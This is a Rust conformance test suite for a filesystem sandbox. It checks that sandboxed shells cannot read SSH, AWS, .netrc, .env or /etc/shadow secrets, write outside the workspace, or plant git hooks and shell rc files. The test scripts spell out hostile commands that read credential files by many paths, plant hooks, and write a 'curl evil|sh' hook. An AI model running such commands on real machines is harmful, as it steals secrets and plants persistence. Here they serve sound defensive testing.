//! Filesystem family: protected HOME paths, neighbour reads, writes outside
//! the workspace, write-protected names inside a writable workspace, and the
//! sandbox's own view (HOME, /tmp, /run).

use std::os::unix::fs::symlink;

use moat_conformance::*;

// ------------------------------------------------------------ protected HOME

#[test]
fn ssh_key_unreadable_at_every_sandboxed_level() {
    let fx = Fixture::new();
    let h = fx.home.display().to_string();
    let script = format!(
        "cat {h}/.ssh/id_rsa {h}/.ssh/config {h}/.aws/credentials {h}/.netrc {h}/.git-credentials \
         {h}/.npmrc {h}/.cargo/credentials.toml {h}/.claude.json {h}/.kube/config {h}/.config/gh/hosts.yml; \
         grep -r . {h}/.ssh {h}/.aws {h}/.gnupg; \
         cat /proc/self/root{h}/.ssh/id_rsa; \
         cd {h} && cat .ssh/id_rsa ../home/.ssh/id_rsa; echo DONE"
    );
    for level in SANDBOXED {
        let out = run(fx.sh(level, &[], &script));
        out.expect_absent(&fx.ssh_secret, &format!("~/.ssh contents at {level}"))
            .expect_absent(&fx.aws_secret, &format!("~/.aws contents at {level}"))
            .expect_absent(&fx.netrc_secret, &format!("~/.netrc etc. at {level}"));
        out.expect_stdout_has("DONE");
    }
}

#[test]
fn protected_home_paths_are_empty_readonly_standins() {
    let fx = Fixture::new();
    let h = fx.home.display().to_string();
    // Positive control: a non-protected file in the same HOME is readable at
    // read-only, so the harness would see a leak.
    let script = format!(
        "cat {h}/notes.txt; echo; \
         [ -d {h}/.ssh ] && echo SSH_IS_DIR; \
         echo SSH_LIST=$(ls -A {h}/.ssh | tr '\\n' ,); \
         [ -d {h}/.aws ] && echo AWS_IS_DIR; \
         echo AWS_LIST=$(ls -A {h}/.aws | tr '\\n' ,); \
         [ -f {h}/.netrc ] && echo NETRC_IS_FILE; \
         echo NETRC_SIZE=$(wc -c < {h}/.netrc); \
         {{ echo pwn > {h}/.ssh/authorized_keys; }} 2>&1 || echo SSH_WRITE_FAILED; \
         {{ echo pwn > {h}/.netrc; }} 2>&1 || echo NETRC_WRITE_FAILED"
    );
    for level in ["read-only", "workspace-write"] {
        let out = run(fx.sh(level, &[], &script));
        out.expect_code(0);
        out.expect_stdout_has(&fx.home_public);
        out.expect_absent(&fx.ssh_secret, "ssh")
            .expect_absent(&fx.netrc_secret, "netrc");
        for tag in [
            "SSH_IS_DIR",
            "AWS_IS_DIR",
            "NETRC_IS_FILE",
            "SSH_WRITE_FAILED",
            "NETRC_WRITE_FAILED",
        ] {
            out.expect_stdout_has(tag);
        }
        assert_eq!(
            out.field("SSH_LIST").as_deref(),
            Some(""),
            "~/.ssh stand-in not empty at {level}\n{}",
            out.dump()
        );
        assert_eq!(
            out.field("AWS_LIST").as_deref(),
            Some(""),
            "~/.aws stand-in not empty at {level}\n{}",
            out.dump()
        );
        assert_eq!(
            out.field("NETRC_SIZE").as_deref(),
            Some("0"),
            "~/.netrc stand-in not empty at {level}\n{}",
            out.dump()
        );
        assert!(
            out.stdout.matches("Read-only file system").count() >= 2,
            "writes to stand-ins should fail with EROFS at {level}\n{}",
            out.dump()
        );
        assert!(
            !exists(fx.home.join(".ssh/authorized_keys")),
            "authorized_keys created on host at {level}"
        );
        assert!(
            read(fx.home.join(".netrc"))
                .unwrap()
                .contains(&fx.netrc_secret),
            "host .netrc modified"
        );
    }
}

#[test]
fn ro_naming_protected_path_opts_it_in() {
    let fx = Fixture::new();
    let ssh = fx.home.join(".ssh");
    let out = run(fx.sh(
        "read-only",
        &["--ro", ssh.to_str().unwrap()],
        &format!(
            "cat {}/id_rsa; cat {}/.aws/credentials",
            ssh.display(),
            fx.home.display()
        ),
    ));
    out.expect_stdout_has(&fx.ssh_secret);
    // Only the named path is opted in.
    out.expect_absent(&fx.aws_secret, "~/.aws while only ~/.ssh was opted in");
}

#[test]
fn workspace_is_home_protects_secrets_and_rc_files() {
    let fx = Fixture::home_as_workspace();
    write(fx.w(".bashrc"), "ORIGINAL-BASHRC\n");
    let script = "cat .ssh/id_rsa .aws/credentials .netrc; ls -A .ssh; \
                  echo EVIL >> .bashrc; echo EVIL > .profile; echo EVIL > .zshrc; \
                  echo EVIL > .ssh/authorized_keys; \
                  echo ok > normal-file.txt; echo DONE";
    let out = run(fx.sh("workspace-write", &[], script));
    out.expect_stdout_has("DONE");
    out.expect_absent(&fx.ssh_secret, "~/.ssh when workspace = HOME")
        .expect_absent(&fx.aws_secret, "~/.aws when workspace = HOME")
        .expect_absent(&fx.netrc_secret, "~/.netrc when workspace = HOME");
    assert_eq!(
        read(fx.w(".bashrc")).as_deref(),
        Some("ORIGINAL-BASHRC\n"),
        "host .bashrc modified\n{}",
        out.dump()
    );
    for f in [".profile", ".zshrc", ".ssh/authorized_keys"] {
        assert!(
            !exists(fx.w(f)),
            "host {f} created in workspace=HOME\n{}",
            out.dump()
        );
    }
    // Positive control: the workspace (HOME) is otherwise writable.
    assert_eq!(
        read(fx.w("normal-file.txt")).as_deref(),
        Some("ok\n"),
        "workspace-write could not write\n{}",
        out.dump()
    );
}

#[test]
fn dotenv_files_read_empty_and_are_readonly() {
    let fx = Fixture::new();
    let sec = fx.env_secret.clone();
    write(fx.w(".env"), &format!("API_KEY={sec}\n"));
    write(fx.w(".env.local"), &format!("API_KEY={sec}\n"));
    write(fx.w(".envrc"), &format!("export API_KEY={sec}\n"));
    write(fx.w("sub/.env"), &format!("API_KEY={sec}\n"));
    write(fx.w("plain.txt"), "PLAIN-CONTROL\n");
    let script = "cat plain.txt .env .env.local .envrc sub/.env ./.env ../ws/.env $PWD/.env /proc/self/cwd/.env \
                  /proc/self/root$PWD/.env sub/../.env; echo SIZE=$(cat .env | wc -c); \
                  { echo X >> .env; } 2>/dev/null || echo WRITE_FAILED; \
                  ln .env hardlink 2>/dev/null; cp .env copy 2>/dev/null; cat hardlink copy 2>/dev/null; echo DONE";
    for level in SANDBOXED {
        let out = run(fx.sh(level, &[], script));
        out.expect_stdout_has("PLAIN-CONTROL")
            .expect_stdout_has("DONE");
        out.expect_absent(&sec, &format!(".env contents at {level}"));
        assert_eq!(
            out.field("SIZE").as_deref(),
            Some("0"),
            ".env should read empty at {level}\n{}",
            out.dump()
        );
        out.expect_stdout_has("WRITE_FAILED");
        assert_eq!(
            read(fx.w(".env")),
            Some(format!("API_KEY={sec}\n")),
            "host .env changed at {level}"
        );
        for f in ["hardlink", "copy"] {
            assert!(
                !read(fx.w(f)).unwrap_or_default().contains(&sec),
                "{f} of .env on host holds the secret ({level})"
            );
            let _ = std::fs::remove_file(fx.w(f));
        }
    }
    let out = run(fx.sh("workspace-write", &[], "echo X >> .env"));
    assert!(
        out.stderr.contains("Read-only file system"),
        "write to .env should be EROFS\n{}",
        out.dump()
    );
    // Opt-in by naming the exact file.
    let envp = fx.w(".env");
    let out = run(fx.sh(
        "read-only",
        &["--ro", envp.to_str().unwrap()],
        "cat .env; cat .envrc",
    ));
    out.expect_stdout_has(&format!("API_KEY={sec}"));
    assert!(
        !out.stdout.contains(&format!("export API_KEY={sec}")),
        ".envrc leaked when only .env was opted in\n{}",
        out.dump()
    );
}

// ------------------------------------------------------------ neighbours

fn neighbour_script(fx: &Fixture) -> String {
    let o = fx.outside.display().to_string();
    format!(
        "echo R1; cat ../outside/secret; echo R2; cat {o}/secret; echo R3; cat link-rel; echo R4; cat link-abs; \
         echo R5; cat linkdir/secret; echo R6; cat sub/../../outside/secret; echo R7; cat /proc/self/root{o}/secret; \
         echo R8; cat /proc/1/root{o}/secret; echo R9; cat /proc/self/cwd/../outside/secret; echo R10; \
         (cd .. && cat outside/secret); echo R11; find {o} -type f -exec cat {{}} +; echo END"
    )
}

fn neighbour_fixture() -> Fixture {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.w("sub")).unwrap();
    symlink("../outside/secret", fx.w("link-rel")).unwrap();
    symlink(fx.outside.join("secret"), fx.w("link-abs")).unwrap();
    symlink(&fx.outside, fx.w("linkdir")).unwrap();
    fx
}

#[test]
fn workspace_contained_hides_neighbour_by_every_path() {
    let fx = neighbour_fixture();
    let out = run(fx.sh("workspace-contained", &[], &neighbour_script(&fx)));
    out.expect_stdout_has("END");
    out.expect_absent(
        &fx.outside_secret,
        "neighbour ../outside/secret at workspace-contained",
    );
    // The neighbour directory and the fake HOME are absent, not merely unreadable.
    let probe = format!(
        "for p in {o} {h} {h}/.ssh /home /root /run; do [ -e $p ] && echo PRESENT:$p; done; \
         ls -A {r} | tr '\\n' ' '; echo; echo END",
        o = fx.outside.display(),
        h = fx.home.display(),
        r = fx.root.display()
    );
    let out = run(fx.sh("workspace-contained", &[], &probe));
    out.expect_stdout_has("END");
    let present = out.tagged("PRESENT:");
    assert!(
        present.is_empty(),
        "paths that must be absent at workspace-contained are visible: {present:?}\n{}",
        out.dump()
    );
    assert!(
        !out.stdout.contains("outside"),
        "neighbour dir listed at workspace-contained\n{}",
        out.dump()
    );
}

#[test]
fn read_only_sees_neighbour_positive_control() {
    // Proves the harness would detect the leak above: at read-only the whole
    // host filesystem is readable, so each path yields the secret.
    let fx = neighbour_fixture();
    let out = run(fx.sh("read-only", &[], &neighbour_script(&fx)));
    out.expect_stdout_has("END");
    let n = out.stdout.matches(&fx.outside_secret).count();
    assert!(
        n >= 8,
        "read-only should read the neighbour by (almost) every path, saw {n}\n{}",
        out.dump()
    );
}

#[test]
fn workspace_contained_sees_system_dirs_and_workspace_positive_control() {
    let fx = Fixture::new();
    write(fx.w("hello.txt"), "HELLO-WS\n");
    let out = run(fx.sh(
        "workspace-contained",
        &[],
        "pwd; cat hello.txt; ls /usr/bin/env /etc/passwd >/dev/null && echo SYS_OK; /usr/bin/python3 -c 'print(\"PY_OK\")'",
    ));
    out.expect_code(0);
    out.expect_stdout_has("HELLO-WS")
        .expect_stdout_has("SYS_OK")
        .expect_stdout_has("PY_OK");
    assert_eq!(
        out.stdout.lines().next(),
        Some(fx.ws.to_str().unwrap()),
        "cwd should be the workspace\n{}",
        out.dump()
    );
}

/// The host's secret /etc files (and ssh host keys) are absent or moat's
/// empty stand-in inside the sandbox. The size check (`wc -c` of the file
/// seen inside): the stand-in is world-readable and 0 bytes, the host file
/// non-empty, so as root a "moat" that hides nothing fails. An unprivileged
/// caller's kernel refuses these files itself; moat leaves them to it
/// (no stand-in), so there they read as unreadable, as outside.
#[test]
fn workspace_contained_hides_shadow_and_sudoers() {
    let mut files: Vec<String> = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"]
        .iter()
        .filter(|p| exists(p))
        .map(|p| p.to_string())
        .collect();
    if let Ok(rd) = std::fs::read_dir("/etc/ssh") {
        for e in rd.flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            if n.starts_with("ssh_host_") && n.ends_with("_key") {
                files.push(format!("/etc/ssh/{n}"));
            }
        }
    }
    assert!(
        files.iter().any(|f| f == "/etc/shadow"),
        "fixture: this host has no /etc/shadow, so the case cannot fail (install passwd)"
    );
    let fx = Fixture::new();
    let script = format!(
        "for f in {}; do if [ -e \"$f\" ]; then n=$(wc -c < \"$f\" 2>/dev/null) && echo \"PROBE $f SIZE $n\" || echo \"PROBE $f UNREADABLE\"; else echo \"PROBE $f ABSENT\"; fi; done; cat /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key 2>/dev/null; echo END",
        files.join(" ")
    );
    let out = run(fx.sh("workspace-contained", &[], &script));
    out.expect_stdout_has("END");
    let res = probe_results(&out);
    // An unprivileged caller's kernel already refuses these files: moat
    // puts no stand-in over them (see ARCHITECTURE.md), so inside they are
    // as unreadable as outside. Accepted only where the caller cannot open
    // the host file itself.
    let kernel_keeps = |f: &str| {
        euid() != 0
            && std::fs::File::open(f)
                .is_err_and(|e| e.kind() == std::io::ErrorKind::PermissionDenied)
    };
    for f in &files {
        match res.iter().find(|(n, _)| n == f) {
            Some((_, r)) if r == "ABSENT" || r == "SIZE 0" => {}
            Some((_, r)) if r == "UNREADABLE" && kernel_keeps(f) => {}
            other => panic!(
                "{f} is the host's file inside the sandbox ({other:?}); expected absent or moat's empty stand-in\n{}",
                out.dump()
            ),
        }
    }
    for (path, needle) in [("/etc/shadow", ':'), ("/etc/sudoers", 'A')] {
        if let Some(line) = read(path)
            .as_deref()
            .and_then(|s| s.lines().find(|l| l.contains(needle)).map(str::to_string))
        {
            out.expect_absent(&line, path);
        }
    }
    assert!(
        !out.stdout.contains("PRIVATE KEY"),
        "ssh host private key readable\n{}",
        out.dump()
    );
}

#[test]
fn ro_and_rw_extra_paths_at_workspace_contained() {
    let fx = Fixture::new();
    let extra = fx.root.join("extra-rw");
    write(extra.join("f"), "EXTRA-RW\n");
    let o = fx.outside.display().to_string();
    let e = extra.display().to_string();
    let out = run(fx.sh(
        "workspace-contained",
        &["--ro", &o, "--rw", &e],
        &format!("cat {o}/secret; echo EVIL > {o}/secret || echo RO_WRITE_FAILED; cat {e}/f; echo new > {e}/new; echo END"),
    ));
    out.expect_stdout_has("END")
        .expect_stdout_has(&fx.outside_secret)
        .expect_stdout_has("EXTRA-RW");
    out.expect_stdout_has("RO_WRITE_FAILED");
    assert_eq!(
        read(fx.outside.join("secret")).as_deref(),
        Some(fx.outside_secret.as_str()),
        "--ro path modified"
    );
    assert_eq!(
        read(extra.join("new")).as_deref(),
        Some("new\n"),
        "--rw path not writable\n{}",
        out.dump()
    );
}

// ------------------------------------------------------------ writes outside

#[test]
fn workspace_write_cannot_write_outside() {
    let fx = Fixture::new();
    let host_tmp = std::path::PathBuf::from(format!("/tmp/{}", unique("hosttmp")));
    let var_tmp = std::path::PathBuf::from(format!("/var/tmp/{}", unique("vartmp")));
    let etc_new = std::path::PathBuf::from(format!("/etc/{}", unique("etc")));
    let usr_new = std::path::PathBuf::from(format!("/usr/local/{}", unique("usr")));
    let o = fx.outside.display().to_string();
    let h = fx.home.display().to_string();
    let script = format!(
        "echo PWNED > {o}/secret; echo PWNED > ../outside/secret; echo PWNED > ../outside/new; \
         mkdir ../outside/newdir; echo PWNED > sub/../../outside/new2; ln -s /x ../outside/newlink; \
         echo PWNED > {h}/notes.txt; echo PWNED > {h}/newfile; \
         echo PWNED > {ht}; echo PWNED > {vt}; echo PWNED > {en}; echo PWNED > {un}; \
         rm -f {o}/secret; mv {o}/secret {o}/moved; \
         echo PWNED > link-abs; echo PWNED > link-rel; echo PWNED > linkdir/new3; \
         ln -s {o}/secret made-link; echo PWNED > made-link; ln -s {o} made-dirlink; echo PWNED > made-dirlink/new4; \
         echo PWNED > /proc/self/root{o}/new5; echo PWNED > /proc/self/cwd/../outside/new6; \
         echo ok > created-in-ws.txt; echo DONE",
        ht = host_tmp.display(),
        vt = var_tmp.display(),
        en = etc_new.display(),
        un = usr_new.display()
    );
    std::fs::create_dir_all(fx.w("sub")).unwrap();
    symlink("../outside/secret", fx.w("link-rel")).unwrap();
    symlink(fx.outside.join("secret"), fx.w("link-abs")).unwrap();
    symlink(&fx.outside, fx.w("linkdir")).unwrap();
    let _guards: Vec<RmOnDrop> = [&host_tmp, &var_tmp, &etc_new, &usr_new]
        .iter()
        .map(|p| RmOnDrop((*p).clone()))
        .collect();
    let out = run(fx.sh("workspace-write", &[], &script));
    let leaks: Vec<String> = [
        (!exists(fx.outside.join("new")), "../outside/new created"),
        (!exists(fx.outside.join("new2")), "../outside/new2 created"),
        (
            !exists(fx.outside.join("newdir")),
            "../outside/newdir created",
        ),
        (
            !exists(fx.outside.join("newlink")),
            "../outside/newlink created",
        ),
        (!exists(fx.outside.join("moved")), "outside secret moved"),
        (
            !exists(fx.outside.join("new3")),
            "write through host symlink dir",
        ),
        (
            !exists(fx.outside.join("new4")),
            "write through sandbox-made symlink dir",
        ),
        (
            !exists(fx.outside.join("new5")),
            "write via /proc/self/root",
        ),
        (
            !exists(fx.outside.join("new6")),
            "write via /proc/self/cwd/..",
        ),
        (
            read(fx.outside.join("secret")).as_deref() == Some(fx.outside_secret.as_str()),
            "outside secret changed",
        ),
        (
            read(fx.home.join("notes.txt")).as_deref() == Some(fx.home_public.as_str()),
            "HOME file changed",
        ),
        (!exists(fx.home.join("newfile")), "HOME file created"),
        (!exists(&host_tmp), "host /tmp file created"),
        (!exists(&var_tmp), "/var/tmp file created"),
        (!exists(&etc_new), "/etc file created"),
        (!exists(&usr_new), "/usr/local file created"),
    ]
    .iter()
    .filter(|(ok, _)| !ok)
    .map(|(_, m)| m.to_string())
    .collect();
    assert!(
        leaks.is_empty(),
        "writes escaped workspace-write: {leaks:?}\n{}",
        out.dump()
    );
    // Positive control: the workspace itself is writable.
    assert_eq!(
        read(fx.w("created-in-ws.txt")).as_deref(),
        Some("ok\n"),
        "workspace not writable\n{}",
        out.dump()
    );
}

#[test]
fn danger_full_access_writes_outside_positive_control() {
    let fx = Fixture::new();
    let out = run(fx.sh("danger-full-access", &[], "echo ok > ../outside/new-danger"));
    out.expect_code(0);
    assert_eq!(
        read(fx.outside.join("new-danger")).as_deref(),
        Some("ok\n"),
        "danger-full-access should write anywhere\n{}",
        out.dump()
    );
}

#[test]
fn read_only_cannot_write_workspace() {
    let fx = Fixture::new();
    let out = run(fx.sh(
        "read-only",
        &[],
        "echo x > ro-created.txt; echo x >> README; echo ok > /tmp/t && cat /tmp/t; echo DONE",
    ));
    out.expect_stdout_has("DONE").expect_stdout_has("ok");
    assert!(
        !exists(fx.w("ro-created.txt")),
        "read-only wrote into workspace\n{}",
        out.dump()
    );
    assert_eq!(read(fx.w("README")).as_deref(), Some("workspace readme\n"));
}

#[test]
fn cwd_flag_selects_workspace_contract() {
    let fx = Fixture::new();
    let mut c = fx.moat([
        "exec",
        "--policy",
        "workspace-write",
        "--cwd",
        fx.ws.to_str().unwrap(),
        "--",
        BASH,
        "-c",
        "pwd; echo via-cwd > cwd-flag.txt",
    ]);
    c.current_dir(&fx.root);
    let out = run(c);
    out.expect_code(0);
    assert_eq!(
        out.stdout.lines().next(),
        Some(fx.ws.to_str().unwrap()),
        "{}",
        out.dump()
    );
    assert_eq!(
        read(fx.w("cwd-flag.txt")).as_deref(),
        Some("via-cwd\n"),
        "{}",
        out.dump()
    );
    assert!(!exists(fx.root.join("cwd-flag.txt")));
}

// ------------------------------------------------------------ protected names in the workspace

const PROTECTED_NAMES: &[&str] = &[
    ".git/hooks/pre-commit",
    ".git/config",
    ".gitconfig",
    ".gitmodules",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".mcp.json",
    ".moatrc",
    ".moat/config.toml",
];

fn attack_script(names: &[&str]) -> String {
    let mut s = String::new();
    for n in names {
        s.push_str(&format!(
            "mkdir -p \"$(dirname '{n}')\"; echo EVIL-PAYLOAD >> '{n}'; "
        ));
    }
    s.push_str("echo ok > allowed.txt; echo DONE");
    s
}

#[test]
fn protected_names_cannot_be_created_when_absent() {
    let fx = Fixture::new();
    let out = run(fx.sh("workspace-write", &[], &attack_script(PROTECTED_NAMES)));
    out.expect_stdout_has("DONE");
    let created: Vec<&str> = PROTECTED_NAMES
        .iter()
        .copied()
        .filter(|n| exists(fx.w(n)))
        .collect();
    assert!(
        created.is_empty(),
        "protected names created on host: {created:?}\n{}",
        out.dump()
    );
    assert_eq!(
        read(fx.w("allowed.txt")).as_deref(),
        Some("ok\n"),
        "positive control: workspace write failed\n{}",
        out.dump()
    );
}

#[test]
fn protected_names_unchanged_when_present() {
    let fx = Fixture::new();
    for n in PROTECTED_NAMES {
        write(fx.w(n), "ORIGINAL\n");
    }
    let mut script = attack_script(PROTECTED_NAMES);
    for n in PROTECTED_NAMES {
        script = format!("rm -f '{n}'; {script}");
    }
    let out = run(fx.sh("workspace-write", &[], &script));
    out.expect_stdout_has("DONE");
    let changed: Vec<&str> = PROTECTED_NAMES
        .iter()
        .copied()
        .filter(|n| read(fx.w(n)).as_deref() != Some("ORIGINAL\n"))
        .collect();
    assert!(
        changed.is_empty(),
        "protected files modified/removed on host: {changed:?}\n{}",
        out.dump()
    );
}

#[test]
fn protected_names_danger_positive_control() {
    // Under danger-full-access nothing is protected: the same attack works,
    // proving the host checks above would see it.
    let fx = Fixture::new();
    let out = run(fx.sh(
        "danger-full-access",
        &[],
        &attack_script(&[".git/hooks/pre-commit", ".bashrc"]),
    ));
    out.expect_code(0);
    assert!(
        exists(fx.w(".git/hooks/pre-commit")) && exists(fx.w(".bashrc")),
        "{}",
        out.dump()
    );
}

#[test]
fn git_hook_created_without_existing_git_dir() {
    let fx = Fixture::new();
    let out = run(fx.sh(
        "workspace-write",
        &[],
        "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo DONE",
    ));
    out.expect_stdout_has("DONE");
    assert!(
        !exists(fx.w(".git/hooks/pre-commit")),
        "host .git/hooks/pre-commit exists\n{}",
        out.dump()
    );
}

#[test]
fn git_hook_with_existing_git_dir() {
    let fx = Fixture::new();
    write(fx.w(".git/HEAD"), "ref: refs/heads/main\n");
    write(fx.w(".git/hooks/pre-push"), "ORIGINAL-HOOK\n");
    write(fx.w(".git/config"), "[core]\n");
    let out = run(fx.sh(
        "workspace-write",
        &[],
        "echo evil > .git/hooks/pre-commit; echo evil >> .git/hooks/pre-push; echo '[core] hooksPath=/x' >> .git/config; \
         echo ok > .git/ordinary-file; echo DONE",
    ));
    out.expect_stdout_has("DONE");
    assert!(
        !exists(fx.w(".git/hooks/pre-commit")),
        "new hook created on host\n{}",
        out.dump()
    );
    assert_eq!(
        read(fx.w(".git/hooks/pre-push")).as_deref(),
        Some("ORIGINAL-HOOK\n"),
        "existing hook changed\n{}",
        out.dump()
    );
    assert_eq!(
        read(fx.w(".git/config")).as_deref(),
        Some("[core]\n"),
        ".git/config changed\n{}",
        out.dump()
    );
}

#[test]
fn git_hook_rename_away_attacks() {
    let attacks = [
        "mv .git .git2; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
        "mv .git/hooks .git/hooks-old; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
        "rm -rf .git; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
        "ln -s .git/hooks h; echo x > h/pre-commit",
        "mv .vscode .vscode2; mkdir .vscode; echo x > .vscode/settings.json",
    ];
    for (a, with_hooks_dir) in attacks.iter().map(|a| (*a, true)).chain([
        ("mkdir -p .git/hooks; echo x > .git/hooks/pre-commit", false),
        (
            "mv .git .git2; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
            false,
        ),
    ]) {
        let fx = Fixture::new();
        write(fx.w(".git/HEAD"), "ref: refs/heads/main\n");
        if with_hooks_dir {
            std::fs::create_dir_all(fx.w(".git/hooks")).unwrap();
        }
        std::fs::create_dir_all(fx.w(".vscode")).unwrap();
        let out = run(fx.sh("workspace-write", &[], &format!("{a}; echo DONE")));
        out.expect_stdout_has("DONE");
        assert!(
            !exists(fx.w(".git/hooks/pre-commit")),
            "attack `{a}` left host .git/hooks/pre-commit\n{}",
            out.dump()
        );
        assert!(
            !exists(fx.w(".vscode/settings.json")),
            "attack `{a}` left host .vscode/settings.json\n{}",
            out.dump()
        );
    }
}

// ------------------------------------------------------------ sandbox view

#[test]
fn home_tmp_run_are_private() {
    let fx = Fixture::new();
    let host_tmp = std::path::PathBuf::from(format!("/tmp/{}", unique("visible")));
    write(&host_tmp, "HOST-TMP\n");
    let _g1 = RmOnDrop(host_tmp.clone());
    let yname = unique("y");
    let _g2 = RmOnDrop(format!("/tmp/{yname}").into());
    let script = format!(
        "echo HOME=$HOME; echo TMPDIR=$TMPDIR; echo HOMELS=$(ls -A $HOME | tr '\\n' ,); \
         echo hi > $HOME/x && echo HOME_WRITABLE; echo hi > /tmp/{yt} && echo TMP_WRITABLE; \
         [ -e {ht} ] && echo HOST_TMP_VISIBLE; cat {ht}; echo RUNLS=$(ls -A /run | tr '\\n' ,); echo PWD=$(pwd)",
        ht = host_tmp.display(),
        yt = yname
    );
    for level in ["read-only", "workspace-write"] {
        let out = run(fx.sh(level, &[], &script));
        out.expect_code(0);
        assert_eq!(
            out.field("HOME").as_deref(),
            Some("/moat/home"),
            "{}",
            out.dump()
        );
        assert_eq!(
            out.field("TMPDIR").as_deref(),
            Some("/tmp"),
            "{}",
            out.dump()
        );
        assert_eq!(
            out.field("HOMELS").as_deref(),
            Some(""),
            "HOME should start empty\n{}",
            out.dump()
        );
        assert_eq!(
            out.field("RUNLS").as_deref(),
            Some(""),
            "/run should be an empty tmpfs at {level}\n{}",
            out.dump()
        );
        assert_eq!(
            out.field("PWD").as_deref(),
            fx.ws.to_str(),
            "{}",
            out.dump()
        );
        out.expect_stdout_has("HOME_WRITABLE")
            .expect_stdout_has("TMP_WRITABLE");
        assert!(
            !out.stdout.contains("HOST_TMP_VISIBLE") && !out.stdout.contains("HOST-TMP"),
            "host /tmp visible at {level}\n{}",
            out.dump()
        );
        assert!(
            !exists(format!("/tmp/{yname}")),
            "sandbox /tmp write reached host /tmp"
        );
    }
    let out = run(fx.sh("workspace-contained", &[], &script));
    out.expect_code(0);
    assert_eq!(
        out.field("HOME").as_deref(),
        Some("/moat/home"),
        "{}",
        out.dump()
    );
    out.expect_stdout_has("HOME_WRITABLE")
        .expect_stdout_has("TMP_WRITABLE");
    assert!(
        !out.stdout.contains("HOST-TMP"),
        "host /tmp visible\n{}",
        out.dump()
    );
    // Positive control: the harness itself sees the host /tmp file.
    assert!(exists(&host_tmp));
}

#[test]
fn home_scratch_does_not_persist_between_runs() {
    let fx = Fixture::new();
    let a = run(fx.sh(
        "workspace-write",
        &[],
        "echo persisted > $HOME/state && echo WROTE-HOME; echo persisted > /tmp/state && echo WROTE-TMP; \
         cat $HOME/state /tmp/state",
    ));
    // Run A's writes succeeded (and read back), so B not seeing them means
    // the scratch was discarded, not that A never wrote.
    a.expect_stdout_has("WROTE-HOME")
        .expect_stdout_has("WROTE-TMP");
    assert_eq!(
        a.stdout.matches("persisted").count(),
        2,
        "control: run A reads back its own writes\n{}",
        a.dump()
    );
    let b = run(fx.sh("workspace-write", &[], "cat $HOME/state /tmp/state; echo R"));
    b.expect_stdout_has("R");
    assert!(
        !b.stdout.contains("persisted"),
        "HOME or /tmp persisted across executions\n{}",
        b.dump()
    );
    assert!(
        !exists(fx.home.join("state")),
        "run A's scratch HOME write reached the host HOME"
    );
}
